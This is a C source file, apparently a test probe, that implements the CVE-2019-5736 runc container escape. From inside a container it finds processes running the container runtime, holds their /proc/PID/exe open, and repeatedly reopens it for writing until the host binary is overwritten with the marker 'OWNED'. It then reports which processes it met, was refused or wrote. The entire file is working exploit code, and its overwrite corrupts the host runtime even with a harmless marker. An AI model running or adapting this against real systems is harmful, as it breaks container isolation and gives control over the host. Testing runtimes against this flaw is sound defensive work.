/*
 * overwrite-exe SECONDS: opens the executable of every other process of the container and overwrites it (CVE-2019-5736).
 * Says "met PID NAME" for each executable that is not a file of the container, "refused PID" for what cannot be looked
 * at, and "wrote PID" for each one that was changed.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char known[1 << 22];

static void attack(const char *pid)
{
	char path[64], name[512], again[64];
	ssize_t length;
	int held, file, round;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	length = readlink(path, name, sizeof name - 1);
	if (length < 0) {
		if (errno == EACCES || errno == EPERM)
			printf("refused %s\n", pid);
		return;
	}
	name[length] = 0;
	if (strstr(name, "memfd:") == NULL && strstr(name, "gantry") == NULL && strstr(name, "runc") == NULL)
		return;
	if (known[atoi(pid)]++)
		return;
	printf("met %s %s\n", pid, name);
	/* Held open, it can be opened again for writing once nobody executes it any more. */
	held = open(path, O_RDONLY);
	if (held < 0)
		return;
	snprintf(again, sizeof again, "/proc/self/fd/%d", held);
	for (round = 0; round < 1000; round++) {
		file = open(again, O_WRONLY);
		if (file >= 0 && write(file, "OWNED", 5) == 5)
			printf("wrote %s\n", pid), round = 1000;
		if (file >= 0)
			close(file);
		usleep(1000);
	}
	close(held);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);

	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("ready");
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(proc)) != NULL)
			if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
				attack(entry->d_name);
		closedir(proc);
	}
	return 0;
}
